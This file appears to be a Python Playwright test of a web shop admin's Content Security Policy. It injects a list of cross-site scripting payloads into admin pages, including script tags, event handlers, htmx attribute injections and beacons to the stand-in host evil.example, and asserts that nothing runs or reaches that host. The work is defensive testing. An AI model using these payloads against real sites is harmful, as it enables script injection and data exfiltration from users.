"""The content policy in a real browser: what an attacker got into a page would still run nothing and reach nobody."""

import pytest
from playwright.async_api import BrowserContext, Page, Route

from domain.agents.roles import Role
from domain.seats.models import SeatKind
from tests.browser.conftest import sign_in
from tests.browser.shops import RunningShop
from tests.browser.witness import Witness

EVIL = "http://evil.example"

# Each would set `window.ran`, send something to EVIL, or change how the page looks.
PLANTED = {
    "script": "<script>window.ran = 1</script>",
    "handler": "<img src='x:' onerror='window.ran = 1'>",
    "script from elsewhere": f"<script src='{EVIL}/x.js'></script>",
    "script as data": "<script src='data:text/javascript,window.ran=1'></script>",
    "link": "<a href='javascript:void(window.ran = 1)' data-press>x</a>",
    "image": f"<img src='{EVIL}/beacon'>",
    "style": f"<style>body {{ background: url({EVIL}/style) }}</style>",
    "style from elsewhere": f"<link rel='stylesheet' href='{EVIL}/x.css'>",
    "frame": f"<iframe src='{EVIL}/frame'></iframe>",
    "frame with a script": "<iframe srcdoc='<script>top.ran = 1</script>'></iframe>",
    "form": f"<form action='{EVIL}/form' method='post'><button data-press>x</button></form>",
    "object": f"<object data='{EVIL}/object'></object>",
    "video": f"<video src='{EVIL}/video'></video>",
    "base": f"<base href='{EVIL}/'><a href='#x' data-press>x</a>",
    "htmx": "<b hx-on:load='window.ran = 1' hx-on:click='window.ran = 1' data-press>x</b>",
    "htmx with a value": "<b hx-trigger='load' hx-get='/admin/' hx-vals='js:{a: window.ran = 1}'>x</b>",
    "htmx with a filter": "<b hx-trigger='click[window.ran = 1]' hx-get='/admin/' data-press>x</b>",
    "htmx to elsewhere": f"<b hx-trigger='load' hx-get='{EVIL}/htmx'>x</b>",
}
_PLANT = """html => {
    const place = document.querySelector('main').appendChild(document.createElement('div'));
    place.append(document.createRange().createContextualFragment(html));
    if (window.htmx) window.htmx.process(place);
    for (const target of place.querySelectorAll('[data-press]')) target.click();
}"""
_BY_ITSELF = """url => {
    setTimeout('window.ran = 1');
    navigator.sendBeacon(url);
    try { new Worker('data:text/javascript,1'); new WebSocket('ws://evil.example/') } catch { }
    return fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused');
}"""


@pytest.fixture
async def reached(context: BrowserContext) -> list[str]:
    """What reached the attacker's server."""
    seen: list[str] = []

    async def answer(route: Route) -> None:
        seen.append(route.request.url)
        await route.fulfill(body="window.ran = 1")

    await context.route(f"{EVIL}/**", answer)
    return seen


@pytest.mark.parametrize("path", ["/admin/sign-in", "/admin/", "/admin/desk"])
async def test_nothing_planted_in_a_page_runs_or_reaches_anybody(
    page: Page, shop: RunningShop, reached: list[str], witness: Witness, path: str
) -> None:
    if path != "/admin/sign-in":
        await sign_in(page, await shop.person("Ola", role=Role.OWNER, seat=SeatKind.FULL))
    for name, html in PLANTED.items():
        await page.goto(path)
        await page.evaluate(_PLANT, html)
        assert await page.evaluate(_BY_ITSELF, f"{EVIL}/fetch") == "refused"
        assert await page.evaluate("() => new Promise(done => setTimeout(() => done(window.ran), 20))") is None, name
        assert not page.url.startswith(EVIL), name
    assert reached == []
    assert witness.forgive("Content Security Policy") > len(PLANTED)
    witness.forgive("htmx:")
